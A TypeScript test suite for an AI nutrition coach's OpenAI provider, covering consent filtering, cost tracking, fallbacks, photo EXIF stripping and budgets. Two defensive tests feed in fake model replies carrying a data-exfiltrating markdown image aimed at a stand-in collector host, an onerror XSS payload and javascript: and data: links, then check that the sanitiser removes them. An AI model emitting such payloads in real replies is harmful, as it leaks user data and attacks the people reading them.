import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import sharp from "sharp";

import { createTestApp, type TestApp } from "../../../../test/helpers/app";
import { bearer } from "../../../../test/helpers/auth";
import {
  buildCoach,
  chatEvents,
  coachDay,
  coachUser,
  FixtureCoachData,
  multipartBody,
  parseEventStream,
  type CoachTestUser,
} from "../../../../test/helpers/coach";
import {
  FakeModelServer,
  openAICompletion,
  openAIStream,
  type RecordedRequest,
} from "../../../../test/helpers/fake-model-server";
import { addDays, todayIn } from "../../../platform/local-date";
import type { CoachFeature } from "../coach-feature";
import { CHAT_INSTRUCTIONS, PHOTO_INSTRUCTIONS, SUMMARY_INSTRUCTIONS } from "./prompt";

const MODEL = "coach-test-model";
const VISION_MODEL = "coach-vision-model";
const NOTE_MARKER = "note-marker-5521";

function openAIEnvironment(fake: FakeModelServer, extra: Record<string, string> = {}) {
  return {
    COACH_PROVIDER: "openai",
    COACH_MODEL: MODEL,
    COACH_VISION_MODEL: VISION_MODEL,
    OPENAI_BASE_URL: `${fake.url}/v1`,
    OPENAI_API_KEY: "sk-test-key",
    COACH_PRICES: `${MODEL}=1/2,${VISION_MODEL}=3/4`,
    COACH_TIMEOUT_SECONDS: "1",
    ...extra,
  };
}

type ChatMessage = { role: string; content: unknown };

function messagesOf(request: RecordedRequest): ChatMessage[] {
  return request.body.messages as ChatMessage[];
}

/** Splits the last user message into its data block and message block, failing on any other shape. */
function lastTurn(request: RecordedRequest): { data: Record<string, unknown>; message: string } {
  const content = messagesOf(request).at(-1)!.content as string;
  const match =
    /^<coach-data>\n(.*)\n<\/coach-data>\n<user-message>\n(.*)\n<\/user-message>$/s.exec(content);
  if (!match) throw new Error(`unexpected last turn: ${content.slice(0, 200)}`);
  return {
    data: JSON.parse(match[1]!) as Record<string, unknown>,
    message: JSON.parse(match[2]!) as string,
  };
}

describe("openai provider", () => {
  const fake = new FakeModelServer();
  const data = new FixtureCoachData();
  let subject: TestApp;
  let coach: CoachFeature;
  let member: CoachTestUser;

  beforeAll(async () => {
    await fake.start();
    subject = await createTestApp({ env: openAIEnvironment(fake) });
    coach = buildCoach(subject, { data });
    member = await coachUser(subject);
    const today = todayIn(member.user.timeZone, subject.clock.now());
    data.days.set(member.user.userId, [
      coachDay(addDays(today, -1), {
        meals: [
          {
            slot: "breakfast",
            items: [{ foodId: "08120", name: "Oats", grams: 80 }],
            totals: { kcal: 303, protein: 10.5, carbs: 54.2, fat: 5.2, fiber: 8.1 },
            note: `Breakfast ${NOTE_MARKER}`,
          },
        ],
        nutrition: { kcal: 2150, protein: 96, carbs: 250, fat: 70, fiber: 24 },
        waterMl: 1800,
        sleep: { durationMinutes: 450, quality: 4 },
        mood: { score: 2, tags: ["tired"], note: `Mood ${NOTE_MARKER}` },
        weightKg: 81.37,
        steps: 6400,
        workouts: [
          {
            name: "Legs",
            durationMinutes: 50,
            exercises: [
              {
                exerciseId: "Barbell_Squat",
                name: "Squat",
                sets: [{ reps: 5, weightKg: 100, durationSeconds: null }],
              },
            ],
            note: null,
          },
        ],
        note: `Day ${NOTE_MARKER}`,
      }),
    ]);
    await coach.privacy.setConsent(
      member.user.userId,
      { meals: true, workouts: false, sleep: true, mood: false, weight: false, notes: false },
      { ip: "127.0.0.1", userAgent: null },
    );
  });
  afterAll(async () => {
    await subject.close();
    await fake.stop();
  });
  beforeEach(() => {
    fake.clear();
  });

  describe("chat", () => {
    it("sends the model, instructions and consented areas only", async () => {
      fake.enqueue(openAIStream(["You slept ", "7.5 hours."]));

      const events = await chatEvents(coach, member.user, { message: "How did I sleep?" });

      expect(fake.requests).toHaveLength(1);
      const request = fake.requests[0]!;
      expect(request.path).toBe("/v1/chat/completions");
      expect(request.headers.authorization).toBe("Bearer sk-test-key");
      expect(request.body.model).toBe(MODEL);
      expect(request.body.stream).toBe(true);
      expect(messagesOf(request)[0]).toEqual({ role: "system", content: CHAT_INSTRUCTIONS });
      const { data: sent, message } = lastTurn(request);
      expect(message).toBe("How did I sleep?");
      const day = (sent.days as Record<string, unknown>[])[0]!;
      expect(Object.keys(day).sort()).toEqual(["date", "meals", "nutrition", "sleep", "waterMl"]);
      const raw = JSON.stringify(request.body);
      expect(raw).not.toContain(NOTE_MARKER);
      expect(raw).not.toContain("81.37");
      expect(raw).not.toContain("tired");
      expect(raw).not.toContain("Squat");
      expect(raw).not.toContain("1990-01-01");
      expect(raw).not.toContain(member.user.userId);
      const done = events.at(-1) as Extract<(typeof events)[number], { type: "done" }>;
      expect(done.reply.reply).toBe("You slept 7.5 hours.");
      expect(done.reply.provider).toBe("openai");
    });

    it("records tokens and cost in the ledger", async () => {
      const user = await coachUser(subject);
      fake.enqueue(openAIStream(["Hello."], { prompt: 150, completion: 20 }));

      await chatEvents(coach, user.user, { message: "Hi" });
      const calls = await coach.privacy.listCalls(user.user.userId, { limit: 10 });

      expect(calls.items).toHaveLength(1);
      expect(calls.items[0]).toMatchObject({
        agent: "chat",
        provider: "openai",
        model: MODEL,
        areas: [],
        inputTokens: 150,
        outputTokens: 20,
        // 150 × $1 + 20 × $2 per million tokens.
        costUsd: 0.00019,
        outcome: "ok",
      });
    });

    it("sends earlier turns of the conversation", async () => {
      fake.enqueue(openAIStream(["First reply."]), openAIStream(["Second reply."]));
      const first = await chatEvents(coach, member.user, { message: "First question" });
      const conversationId = (first.at(-1) as Extract<(typeof first)[number], { type: "done" }>)
        .reply.conversationId;

      await chatEvents(coach, member.user, { message: "Second question", conversationId });

      const messages = messagesOf(fake.requests[1]!);
      expect(messages.map((message) => message.role)).toEqual([
        "system",
        "user",
        "assistant",
        "user",
      ]);
      expect(messages[1]!.content).toBe('<user-message>\n"First question"\n</user-message>');
      expect(messages[2]!.content).toBe("First reply.");
      expect(lastTurn(fake.requests[1]!).message).toBe("Second question");
    });

    it("falls back to the builtin coach on an error", async () => {
      fake.enqueue({ status: 500, json: { error: { message: "internal" } } });

      const events = await chatEvents(coach, member.user, { message: "How is my water?" });
      const calls = await coach.privacy.listCalls(member.user.userId, { limit: 1 });

      const done = events.at(-1) as Extract<(typeof events)[number], { type: "done" }>;
      expect(done.reply.provider).toBe("builtin");
      expect(done.reply.reply).toContain("**Water:**");
      expect(done.reply.notes).toContain(
        "The model request failed, so the builtin coach answered.",
      );
      expect(calls.items[0]!.outcome).toBe("failed");
    });

    it("falls back when the model times out", async () => {
      fake.enqueue({ hang: true });
      const started = Date.now();

      const events = await chatEvents(coach, member.user, { message: "How is my sleep?" });

      const elapsed = Date.now() - started;
      const done = events.at(-1) as Extract<(typeof events)[number], { type: "done" }>;
      expect(elapsed).toBeLessThan(5_000);
      expect(done.reply.provider).toBe("builtin");
      expect(done.reply.notes[0]).toBe(
        "The model did not answer within 1 seconds, so the builtin coach answered.",
      );
      const calls = await coach.privacy.listCalls(member.user.userId, { limit: 1 });
      expect(calls.items[0]!.outcome).toBe("timed-out");
    });

    it("flags numbers that do not match the data", async () => {
      fake.enqueue(openAIStream(["You ate 2150 kcal but slept 11 hours."]));

      const events = await chatEvents(coach, member.user, { message: "Summary please" });

      const done = events.at(-1) as Extract<(typeof events)[number], { type: "done" }>;
      expect(done.reply.notes).toEqual([
        "The reply mentions 11 hours, which could not be matched to your data; check it before relying on it.",
      ]);
    });

    it("strips images and HTML from the reply", async () => {
      fake.enqueue(
        openAIStream([
          "Done ![pixel](https://collector.invalid/?d=secret) <img src=x onerror=alert(1)>**ok**",
        ]),
      );

      const events = await chatEvents(coach, member.user, { message: "Hi" });

      const done = events.at(-1) as Extract<(typeof events)[number], { type: "done" }>;
      expect(done.reply.reply).toBe("Done pixel **ok**");
    });

    it("neutralises unsafe links in stream and history", async () => {
      const user = await coachUser(subject);
      fake.enqueue(
        openAIStream(
          ["Tap [here](java", 'script:alert(1)) or <a href="data:text/html,x">', "this</a>."],
          undefined,
          20,
        ),
      );

      const response = await subject.app.inject({
        method: "POST",
        url: "/api/v1/coach/chat",
        headers: { ...bearer(user.accessToken), accept: "text/event-stream" },
        payload: { message: "Any tips?" },
      });
      const events = parseEventStream(response.body);
      const streamedText = events
        .filter((event) => event.event === "delta")
        .map((event) => (event.data as { text: string }).text)
        .join("");
      const done = events.at(-1)!.data as { reply: string; conversationId: string };
      const stored = await subject.app.inject({
        method: "GET",
        url: `/api/v1/coach/conversations/${done.conversationId}`,
        headers: bearer(user.accessToken),
      });

      expect(streamedText).toBe("Tap here or this.");
      expect(done.reply).toBe("Tap here or this.");
      expect(stored.statusCode).toBe(200);
      expect(stored.json().messages[1].content).toBe("Tap here or this.");
    });

    it("uses the builtin coach for unverified accounts", async () => {
      const unverified = await coachUser(subject, { verify: false });

      const events = await chatEvents(coach, unverified.user, { message: "Hi" });

      const done = events.at(-1) as Extract<(typeof events)[number], { type: "done" }>;
      expect(fake.requests).toHaveLength(0);
      expect(done.reply.provider).toBe("builtin");
      expect(done.reply.notes[0]).toContain("Confirm your email address");
    });

    it("streams over HTTP as server-sent events", async () => {
      fake.enqueue(openAIStream(["Drink ", "more ", "water."], undefined, 20));

      const response = await subject.app.inject({
        method: "POST",
        url: "/api/v1/coach/chat",
        headers: { ...bearer(member.accessToken), accept: "text/event-stream" },
        payload: { message: "Any tips?" },
      });

      expect(response.statusCode).toBe(200);
      expect(response.headers["content-type"]).toBe("text/event-stream; charset=utf-8");
      const events = parseEventStream(response.body);
      expect(events.map((event) => event.event)).toEqual(["delta", "delta", "delta", "done"]);
      expect(events.slice(0, 3).map((event) => (event.data as { text: string }).text)).toEqual([
        "Drink ",
        "more ",
        "water.",
      ]);
      expect(events[3]!.data).toMatchObject({
        reply: "Drink more water.",
        provider: "openai",
        model: MODEL,
      });
    });
    it("sends each delta as it arrives over a socket", async () => {
      const user = await coachUser(subject);
      fake.enqueue(openAIStream(["Slow ", "and ", "steady."], undefined, 200));
      const address = await subject.app.listen({ host: "127.0.0.1", port: 0 });

      const response = await fetch(`${address}/api/v1/coach/chat`, {
        method: "POST",
        headers: {
          ...bearer(user.accessToken),
          accept: "text/event-stream",
          "content-type": "application/json",
        },
        body: JSON.stringify({ message: "Tell me slowly" }),
      });
      const reader = response.body!.getReader();
      const decoder = new TextDecoder();
      const arrivals: { text: string; at: number }[] = [];
      const started = Date.now();
      for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) {
        arrivals.push({ text: decoder.decode(chunk.value), at: Date.now() - started });
      }

      const firstDelta = arrivals.find((arrival) => arrival.text.includes("event: delta"))!;
      const done = arrivals.find((arrival) => arrival.text.includes("event: done"))!;
      expect(response.status).toBe(200);
      expect(response.headers.get("x-content-type-options")).toBe("nosniff");
      // The fake server waits 200 ms after each chunk, so a buffered reply would arrive at once.
      expect(done.at - firstDelta.at).toBeGreaterThanOrEqual(300);
    });
  });

  describe("summary", () => {
    it("asks for JSON and keeps statements that match the data", async () => {
      fake.answerByDefault((request) => {
        const content = messagesOf(request)[1]!.content as string;
        const sent = JSON.parse(content.replace(/^<coach-data>\n|\n<\/coach-data>$/g, "")) as {
          facts: { id: string; label: string }[];
        };
        const id = (label: string) => sent.facts.find((fact) => fact.label === label)!.id;
        return openAICompletion(
          JSON.stringify({
            wentWell: [{ text: "You slept **7.5 hours**.", facts: [id("Sleep")] }],
            toChange: [{ text: "You ate 5000 kcal.", facts: [id("Energy")] }],
            suggestions: [
              { text: "Add 34 g of protein.", facts: [id("Protein")] },
              { text: "Drink 700 ml more water.", facts: [id("Water")] },
              { text: "Keep sleeping 7.5 hours.", facts: [id("Sleep")] },
            ],
          }),
        );
      });
      const yesterday = addDays(todayIn(member.user.timeZone, subject.clock.now()), -1);

      const summary = await coach.coach.summary(member.user, yesterday);

      const request = fake.requests[0]!;
      expect(request.body.model).toBe(MODEL);
      expect(request.body.stream).toBeUndefined();
      expect(messagesOf(request)[0]).toEqual({ role: "system", content: SUMMARY_INSTRUCTIONS });
      const labels = JSON.stringify(request.body);
      expect(labels).not.toContain('"Mood"');
      expect(labels).not.toContain('"Weight"');
      expect(labels).not.toContain('"Steps"');
      expect(summary.provider).toBe("openai");
      expect(summary.wentWell.map((item) => item.text)).toEqual(["You slept **7.5 hours**."]);
      expect(summary.toChange).toEqual([]);
      expect(summary.suggestions).toHaveLength(3);
      expect(summary.suggestions[0]!.basis).toEqual([
        { label: "Protein", value: 96, unit: "g", target: 130 },
      ]);
      expect(summary.notes[0]).toContain(
        "1 statement from the model cited numbers that do not match",
      );
      fake.answerByDefault(() => ({ status: 500, json: {} }));
    });

    it("falls back when the output is not JSON", async () => {
      fake.enqueue(openAICompletion("I cannot help with that."));
      const yesterday = addDays(todayIn(member.user.timeZone, subject.clock.now()), -1);

      const summary = await coach.coach.summary(member.user, yesterday);

      expect(summary.provider).toBe("builtin");
      expect(summary.suggestions).toHaveLength(3);
      expect(summary.notes).toEqual(["The model request failed, so the builtin coach answered."]);
    });
  });

  describe("meal photo", () => {
    // A user of its own, because the chat tests above use up the member's requests per minute.
    let photographer: CoachTestUser;

    beforeAll(async () => {
      photographer = await coachUser(subject);
      await coach.privacy.setConsent(
        photographer.user.userId,
        { meals: true, workouts: false, sleep: false, mood: false, weight: false, notes: false },
        { ip: "127.0.0.1", userAgent: null },
      );
    });

    async function photoWithMetadata(): Promise<Buffer> {
      return sharp({ create: { width: 64, height: 48, channels: 3, background: "#e0c040" } })
        .jpeg()
        .withExif({ IFD0: { Copyright: "gps-marker-8812" } })
        .toBuffer();
    }

    it("sends a re-encoded image to the vision model", async () => {
      fake.enqueue(
        openAICompletion(
          JSON.stringify({ foods: [{ name: "Bananas, raw", grams: 120, confidence: 0.9 }] }),
        ),
      );
      const upload = multipartBody("file", await photoWithMetadata(), "image/jpeg");

      const response = await subject.app.inject({
        method: "POST",
        url: "/api/v1/coach/meal-photo",
        headers: { ...bearer(photographer.accessToken), ...upload.headers },
        payload: upload.payload,
      });

      expect(response.statusCode).toBe(200);
      expect(response.json().items[0]).toMatchObject({
        label: "Bananas, raw",
        foodId: "09040",
        grams: 120,
        confidence: 0.9,
        nutrients: { kcal: 107, protein: 1.3, carbs: 27.4, fat: 0.4, fiber: 3.1 },
      });
      const request = fake.requests[0]!;
      expect(request.body.model).toBe(VISION_MODEL);
      expect(messagesOf(request)[0]).toEqual({ role: "system", content: PHOTO_INSTRUCTIONS });
      const parts = messagesOf(request)[1]!.content as {
        type: string;
        image_url?: { url: string };
      }[];
      const url = parts.find((part) => part.type === "image_url")!.image_url!.url;
      expect(url.startsWith("data:image/jpeg;base64,")).toBe(true);
      const sent = Buffer.from(url.slice("data:image/jpeg;base64,".length), "base64");
      expect(sent.includes(Buffer.from("gps-marker-8812"))).toBe(false);
      expect((await sharp(sent).metadata()).exif).toBeUndefined();
    });

    it("answers 502 when the vision model fails", async () => {
      fake.enqueue({ status: 500, json: {} });
      const upload = multipartBody("file", await photoWithMetadata(), "image/jpeg");

      const response = await subject.app.inject({
        method: "POST",
        url: "/api/v1/coach/meal-photo",
        headers: { ...bearer(photographer.accessToken), ...upload.headers },
        payload: upload.payload,
      });

      expect(response.statusCode).toBe(502);
      expect(response.json().reason).toBe("provider-failed");
    });

    it("answers 503 when the vision model times out", async () => {
      fake.enqueue({ hang: true });
      const upload = multipartBody("file", await photoWithMetadata(), "image/jpeg");

      const response = await subject.app.inject({
        method: "POST",
        url: "/api/v1/coach/meal-photo",
        headers: { ...bearer(photographer.accessToken), ...upload.headers },
        payload: upload.payload,
      });

      expect(response.statusCode).toBe(503);
      expect(response.json().reason).toBe("provider-timeout");
      expect(response.headers["retry-after"]).toBe("30");
    });

    it("rejects a file that is not an image", async () => {
      const upload = multipartBody("file", Buffer.from("%PDF-1.7 not a photo"), "image/jpeg");

      const response = await subject.app.inject({
        method: "POST",
        url: "/api/v1/coach/meal-photo",
        headers: { ...bearer(photographer.accessToken), ...upload.headers },
        payload: upload.payload,
      });

      expect(response.statusCode).toBe(415);
      expect(fake.requests).toHaveLength(0);
    });

    it("needs consent for the meals area", async () => {
      const user = await coachUser(subject);
      const upload = multipartBody("file", await photoWithMetadata(), "image/jpeg");

      const response = await subject.app.inject({
        method: "POST",
        url: "/api/v1/coach/meal-photo",
        headers: { ...bearer(user.accessToken), ...upload.headers },
        payload: upload.payload,
      });

      expect(response.statusCode).toBe(403);
      expect(response.json().reason).toBe("consent-required");
      expect(fake.requests).toHaveLength(0);
    });
  });
});

describe("openai provider budgets", () => {
  const fake = new FakeModelServer();
  let subject: TestApp;

  beforeAll(async () => {
    await fake.start();
    // One chat of 150 + 20 tokens costs 190 micro-dollars, so the second one is over budget.
    subject = await createTestApp({
      env: openAIEnvironment(fake, { COACH_USER_DAILY_BUDGET_USD: "0.0001" }),
    });
    fake.answerByDefault(() => openAIStream(["Fine."], { prompt: 150, completion: 20 }));
  });
  afterAll(async () => {
    await subject.close();
    await fake.stop();
  });

  it("answers 429 once the daily budget is spent", async () => {
    const { accessToken } = await coachUser(subject);
    const send = () =>
      subject.app.inject({
        method: "POST",
        url: "/api/v1/coach/chat",
        headers: bearer(accessToken),
        payload: { message: "Hi" },
      });

    const first = await send();
    const second = await send();

    expect(first.statusCode).toBe(200);
    expect(second.statusCode).toBe(429);
    expect(second.json().detail).toContain("today's budget");
    const retryAfter = Number(second.headers["retry-after"]);
    expect(retryAfter).toBeGreaterThan(0);
    expect(retryAfter).toBeLessThanOrEqual(86_400);
    expect(fake.requests).toHaveLength(1);
  });
});
